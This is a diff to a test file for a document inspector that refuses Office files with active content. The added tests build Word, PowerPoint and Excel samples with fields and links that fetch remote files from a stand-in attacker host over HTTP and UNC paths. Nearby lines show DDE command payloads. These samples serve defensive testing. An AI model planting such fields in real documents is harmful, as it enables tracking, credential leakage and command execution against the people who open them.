@@ -8,6 +8,7 @@ import {
   docxWithAttachedTemplate,
   docxWithBody,
   docxWithExternalLink,
+  docxWithStoryPart,
   docxWithVbaRelationship,
   EXECUTABLE_HEADS,
   gzipped,
@@ -21,6 +22,7 @@ import {
   packageStreamOle2,
   plainOle2,
   pptWithStorage,
+  pptxWithLinkedPicture,
   quotedOverlapZip,
   rawZip,
   renamedVbaStorageOle2,
@@ -29,6 +31,7 @@ import {
   vbaProjectOle2,
   visioWithVbaModule,
   xlsWorkbook,
+  xlsxWithExternalWorkbook,
   xlsxWithParts,
   docx,
   makeSampleDir,
@@ -543,6 +546,29 @@ describe('inspectZip refuses active content without macros (document_active_cont
     await expectRefused(docxWithBody(complexField(['DDE cmd "/c calc" A1'])), 'document_active_content');
     await expectRefused(docxWithBody(complexField([' DD', 'EAU', 'TO cmd "/c calc"'])), 'document_active_content');
     await expectRefused(docxWithBody(complexField([' &#x44;DEAUTO cmd'])), 'document_active_content');
+  });
+
+  it('refuses fields that fetch a remote file on open, in the body, headers, footers and footnotes', async () => {
+    const picture = '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://attacker.invalid/p.png&quot; \\d "/>';
+    await expectRefused(docxWithBody(picture), 'document_active_content');
+    const included = complexField([' INCLUDETEXT "\\\\\\\\attacker.invalid\\\\share\\\\a.docx" ']);
+    await expectRefused(docxWithStoryPart('header1', included), 'document_active_content');
+    const link = complexField([' LINK Excel.Sheet.12 "https://attacker.invalid/b.xlsx" "Sheet1!R1C1" \\a ']);
+    await expectRefused(docxWithStoryPart('footer1', link), 'document_active_content');
+    await expectRefused(docxWithStoryPart('footnotes', picture), 'document_active_content');
+  });
+
+  it('refuses remote linked pictures in Word and PowerPoint and a workbook linked to a remote workbook', async () => {
+    await expectRefused(docxWithExternalLink('image', 'https://attacker.invalid/p.png'), 'document_active_content');
+    await expectRefused(pptxWithLinkedPicture('\\\\attacker.invalid\\share\\p.png'), 'document_active_content');
+    await expectRefused(xlsxWithExternalWorkbook('https://attacker.invalid/b.xlsx'), 'document_active_content');
+  });
+
+  it('passes fields, pictures and workbook links that stay on the local machine', async () => {
+    const local = complexField([' INCLUDEPICTURE "C:\\\\Pictures\\\\logo.png" \\d ']);
+    await expect(inspect(await docxWithStoryPart('header1', local))).resolves.toBeUndefined();
+    await expect(inspect(await pptxWithLinkedPicture('file:///C:/Pictures/logo.png'))).resolves.toBeUndefined();
+    await expect(inspect(await xlsxWithExternalWorkbook('figures.xlsx'))).resolves.toBeUndefined();
   });
 
   it('refuses a DDE link and a DDE formula in a workbook', async () => {
